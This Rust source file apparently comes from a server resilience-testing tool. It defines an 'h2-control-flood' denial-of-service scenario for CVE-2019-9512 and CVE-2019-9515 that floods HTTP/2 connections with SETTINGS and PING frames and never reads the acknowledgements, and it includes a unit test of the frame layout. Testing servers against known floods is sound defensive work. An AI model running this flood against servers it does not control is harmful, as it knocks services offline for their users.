//! `h2-control-flood` (CVE-2019-9512 ping flood, CVE-2019-9515 settings flood): on each
//! connection SETTINGS and PING frames as fast as the server takes them, 64 of each to a
//! write, and none of the server's acknowledgements read. A server that queues an
//! acknowledgement per frame grows without bound; one that keeps reading while it cannot
//! write spends its CPU on a client that gives nothing back. A bounded server stops reading
//! such a client and cuts it at its write timeout.

use super::h2_abuse;
use crate::h2wire::{self, PING, SETTINGS};
use crate::scenarios::{Load, Run, Scenario};

/// SETTINGS + PING pairs per write.
pub const PAIRS: u32 = 64;

/// The registry entry.
pub const SCENARIO: Scenario = Scenario {
    name: "h2-control-flood",
    kind: "dos",
    description: "HTTP/2 SETTINGS and PING frames as fast as taken, acknowledgements never read",
    run: Run::Dos(|ctx, counters| {
        Box::pin(h2_abuse::run(
            ctx,
            counters,
            h2_abuse::Abuse { round, read: false },
        ))
    }),
    load: Load::H2Connections,
};

/// Each round: [`PAIRS`] empty SETTINGS frames and PINGs (opaque data: the round and pair).
fn round(_host: &str, r: u32) -> Option<h2_abuse::Round> {
    let mut out = Vec::with_capacity(PAIRS as usize * (9 + 9 + 8));
    for i in 0..PAIRS {
        h2wire::push_frame(&mut out, SETTINGS, 0, 0, &[]);
        let data = (u64::from(r) << 32 | u64::from(i)).to_be_bytes();
        h2wire::push_frame(&mut out, PING, 0, 0, &data);
    }
    Some((out, 2 * u64::from(PAIRS)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn settings_and_pings_alternate_on_stream_zero() {
        let (bytes, n) = round("localhost", 3).expect("round");
        assert_eq!(n, 2 * u64::from(PAIRS));
        let mut r = &bytes[..];
        for i in 0..PAIRS {
            let s = h2wire::read_frame(&mut r).await.expect("settings");
            assert_eq!(
                (s.kind, s.flags, s.stream, s.payload.len()),
                (SETTINGS, 0, 0, 0)
            );
            let p = h2wire::read_frame(&mut r).await.expect("ping");
            assert_eq!((p.kind, p.flags, p.stream), (PING, 0, 0));
            assert_eq!(p.payload, (3u64 << 32 | u64::from(i)).to_be_bytes());
        }
        assert!(r.is_empty());
    }
}
